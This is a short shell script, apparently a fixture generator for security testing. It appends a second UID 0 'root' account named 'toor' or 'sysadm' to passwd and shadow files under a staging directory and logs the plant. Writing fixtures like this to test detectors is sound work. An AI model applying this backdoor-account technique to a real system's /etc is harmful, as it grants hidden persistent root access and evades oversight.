#!/bin/sh
# account-uid0: a second root (passwd(5))
. "${0%/*}/lib.sh"
only "plain disguised" "the account is root"
n=$(named toor sysadm)
printf '%s\n' "$n:x:0:0::/root:/bin/bash" >>"$root/etc/passwd"
printf '%s\n' "$n:$hash:20000:0:99999:7:::" >>"$root/etc/shadow"
planted /etc/passwd "$n"
planted /etc/shadow "$n"
